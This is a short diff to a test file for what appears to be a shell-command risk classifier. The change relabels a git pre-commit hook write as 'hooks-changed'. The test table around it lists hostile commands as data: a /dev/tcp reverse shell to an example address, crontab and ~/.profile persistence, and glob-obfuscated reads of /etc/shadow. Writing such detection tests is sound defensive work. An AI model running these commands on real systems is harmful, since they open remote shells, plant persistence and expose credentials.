@@ -39,7 +39,7 @@ describe('what leaves, discloses, survives or becomes code [H2]', () => {
     ['bash -i >& /dev/tcp/192.0.2.1/80 0>&1', 'data-sent'],
     ['echo "* * * * * x" | crontab -', 'scheduling'],
     ['cat >> ~/.profile <<< "x"', 'persistence'],
-    ['echo x > .git/hooks/pre-commit', 'persistence'],
+    ['echo x > .git/hooks/pre-commit', 'hooks-changed'],
     ['cat /???/sh?d?w', 'credentials-read'],
     ['cat /etc/sh*', 'credentials-read'],
     ['cat ~/.bulkhead/policy.yaml', 'own-files'],
